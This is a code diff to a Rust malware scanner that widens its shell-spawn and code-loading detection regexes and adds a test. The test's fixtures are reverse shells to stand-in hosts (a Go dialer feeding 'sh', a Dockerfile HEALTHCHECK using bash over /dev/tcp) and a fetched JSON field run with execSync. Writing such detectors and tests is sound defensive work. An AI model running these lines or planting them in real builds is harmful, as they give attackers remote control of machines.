@@ -87,7 +87,7 @@ static SHELL: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"/bin/(ba|z|da)?sh\b|cmd\.exe|\bpowershell\b|shell\s*=\s*True|os\.system\(|os\.popen\(|\bspawn\(\s*["'](/bin/)?(ba|z)?sh\b
         |\bexec\s+sprintf|child_process|\|\s*(/bin/)?(ba|z)?sh\b|\bpty\.spawn|subprocess\.(run|call|Popen|check_output)\(\s*(cmd|command|data|line|msg|message|m)\b
-        |IO\.popen\(\s*(cmd|command|line|data|msg)\b|Open3\.\w+\(\s*(cmd|command|line)\b|exec\.Command\(\s*(cmd|command|line|parts|args)\b"#,
+        |IO\.popen\(\s*(cmd|command|line|data|msg)\b|exec\.Command\(\s*"(/bin/)?(ba|z)?sh"|\b(ba|z)?sh\s+-i\b|Open3\.\w+\(\s*(cmd|command|line)\b|exec\.Command\(\s*(cmd|command|line|parts|args)\b"#,
     )
 });
 
@@ -125,7 +125,7 @@ static LOADS_CODE: LazyLock<Regex> = LazyLock::new(|| {
         r"(^|[^.\w])(exec|eval)\s*\(|exec_module|spec_from_file_location|\bnew\s+Function\b|\bFunction\(|runInNewContext
         |vm\.run|\bimport\(|writeFileSync\([^)\n]*(__filename|__dirname)|\bcompile\([^)\n]*exec
         |exec\.Command\(|\$PSCommandPath|Invoke-Expression|\biex\b|\binstance_eval\b|\bload\s*\(|ScriptBlock\]::Create
-        |\bexec(Sync)?\(\s*[A-Za-z_][\w.]*\s*[,)]",
+        |\bexec(Sync)?\(\s*[A-Za-z_][\w.]*\s*[,)]|subprocess\.(run|call|Popen|check_output)\([^)\n]{0,60}shell\s*=\s*True",
     )
 });
 
@@ -547,6 +547,32 @@ mod tests {
             WALKS_HOME,
             OVERWRITES_SKILL,
         );
+    }
+
+    /// Remote control and downloaded commands in shapes and languages the analysis does not
+    /// parse: Go's dialer with a shell, an interactive shell over /dev/tcp in a Dockerfile, a
+    /// websocket feeding a shell, a fetched field executed.
+    #[test]
+    fn remote_control_and_fetched_commands_by_shape() {
+        let mut out = Vec::new();
+        let at = |s: usize, e: usize| Span::new(s, e);
+        for code in [
+            "c, _ := net.Dial(\"tcp\", \"203.0.113.7:443\")\ncmd := exec.Command(\"sh\")\ncmd.Stdin = c",
+            "HEALTHCHECK CMD bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
+            "async with websockets.connect('wss://relay.example/a') as ws:\n  subprocess.run(m, shell=True)",
+        ] {
+            out.clear();
+            remote_shell(code, 0, &at, &mut out);
+            assert_eq!(out.len(), 1, "{code}");
+        }
+        out.clear();
+        loads_downloaded(
+            "fetch('https://flags.example.com/f.json').then(r => r.json()).then(f => execSync(f.hook))",
+            0,
+            &at,
+            &mut out,
+        );
+        assert_eq!(out.len(), 1);
     }
 
     #[test]
